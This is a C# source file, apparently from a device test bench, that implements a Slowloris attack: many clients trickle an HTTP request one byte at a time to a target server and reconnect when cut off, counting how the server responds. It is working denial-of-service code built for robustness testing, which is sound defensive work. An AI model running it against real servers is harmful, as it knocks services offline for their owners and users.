using System.Net.Sockets;

namespace DeviceBench.Host.Hostile.Attacks;

/// <summary>
/// Slowloris: <see cref="AttackOptions.Connections"/> clients each send a valid request one byte per
/// <see cref="AttackOptions.ByteInterval"/>, read the answer, and start again; a client the server cuts off
/// (408, any error status, or a close — the correct defence against a header that never ends) reconnects.
/// </summary>
public sealed class SlowClientsAttack : AttackDriver
{
    private static readonly TimeSpan ConnectTimeout = TimeSpan.FromSeconds(5);
    private readonly List<Task> _clients = [];

    public SlowClientsAttack(AttackOptions options)
        : base(options)
    {
    }

    /// <summary>Returns once every client has made its first connect attempt.</summary>
    public override async Task StartAsync(CancellationToken cancellationToken)
    {
        var request = HostileSockets.Request(Options.Target);
        var pending = Options.Connections;
        var allTried = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        for (var i = 0; i < Options.Connections; i++)
        {
            _clients.Add(Task.Run(() => RunClientAsync(request, () =>
            {
                if (Interlocked.Decrement(ref pending) == 0) allTried.TrySetResult();
            }), CancellationToken.None));
        }
        await allTried.Task.WaitAsync(cancellationToken).ConfigureAwait(false);
    }

    protected override Task ReleaseAsync() => Task.WhenAll(_clients);

    private async Task RunClientAsync(byte[] request, Action tried)
    {
        var token = Stopping.Token;
        var first = true;
        while (!token.IsCancellationRequested)
        {
            var socket = await HostileSockets.TryConnectAsync(Options.Target, ConnectTimeout, token).ConfigureAwait(false);
            if (first)
            {
                first = false;
                tried();
            }

            try
            {
                if (socket is null)
                {
                    if (!token.IsCancellationRequested) Counters.ConnectFailed();
                    await Task.Delay(Options.ByteInterval, token).ConfigureAwait(false);
                    continue;
                }

                Counters.Opened();
                await TrickleAsync(socket, request, token).ConfigureAwait(false);
            }
            catch (OperationCanceledException)
            {
            }
            finally
            {
                socket?.Dispose();
            }
        }
    }

    /// <summary>Sends requests byte by byte on one connection until the server cuts it off or the attack stops.</summary>
    private async Task TrickleAsync(Socket socket, byte[] request, CancellationToken token)
    {
        while (true)
        {
            for (var i = 0; i < request.Length; i++)
            {
                // Anything to read before the request is complete is an early answer (408) or a close: cut off.
                if (socket.Poll(0, SelectMode.SelectRead) || !await TrySendAsync(socket, request.AsMemory(i, 1), token).ConfigureAwait(false))
                {
                    Counters.ClosedByServer();
                    return;
                }
                await Task.Delay(Options.ByteInterval, token).ConfigureAwait(false);
            }

            if (await HostileSockets.ReadStatusAsync(socket, token).ConfigureAwait(false) is not (>= 200 and < 400))
            {
                Counters.ClosedByServer();
                return;
            }
            Counters.Completed();
        }
    }

    private static async Task<bool> TrySendAsync(Socket socket, ReadOnlyMemory<byte> bytes, CancellationToken token)
    {
        try
        {
            return await socket.SendAsync(bytes, SocketFlags.None, token).ConfigureAwait(false) == bytes.Length;
        }
        catch (SocketException)
        {
            return false;
        }
    }
}
